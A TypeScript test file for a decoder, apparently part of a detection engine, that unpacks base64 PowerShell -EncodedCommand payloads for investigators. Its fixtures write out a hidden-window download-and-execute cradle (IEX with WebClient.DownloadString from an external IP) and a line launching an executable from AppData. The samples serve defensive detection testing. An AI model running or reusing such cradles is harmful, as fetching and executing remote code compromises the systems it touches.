// -EncodedCommand payloads decoded for the investigator (UTF-16LE base64), Japanese included.
import { describe, expect, it } from 'vitest';
import { decodeEncodedCommands } from '../../../../electron/engine/detect/sigma/powershell';

const enc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

describe('decodeEncodedCommands', () => {
  it('decodes every accepted spelling of the switch', () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
    for (const sw of ['-e', '-en', '-enc', '-EncodedCommand', '-ec', '/enc', '\u2013enc', '-ENCODEDCOMMAND']) {
      expect(decodeEncodedCommands(`powershell.exe -nop -w hidden ${sw} ${enc(script)}`), sw).toEqual([script]);
    }
    expect(decodeEncodedCommands(`powershell -enc:"${enc(script)}"`)).toEqual([script]);
  });

  it('keeps Japanese text intact', () => {
    const script = "Write-Host '請求書を確認してください'; Start-Process C:\\Users\\山田\\AppData\\a.exe";
    expect(decodeEncodedCommands(`powershell -enc ${enc(script)}`)).toEqual([script]);
  });

  it('ignores switches that are not -EncodedCommand and base64 that is not UTF-16 text', () => {
    expect(decodeEncodedCommands('powershell -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1')).toEqual([]);
    expect(decodeEncodedCommands(`powershell -enc ${Buffer.from([0xff, 0x00, 0x01, 0x00, 0x02, 0xd8, 0x41, 0x00]).toString('base64')}`)).toEqual([]);
    expect(decodeEncodedCommands('powershell -enc notbase64!!')).toEqual([]);
  });
});
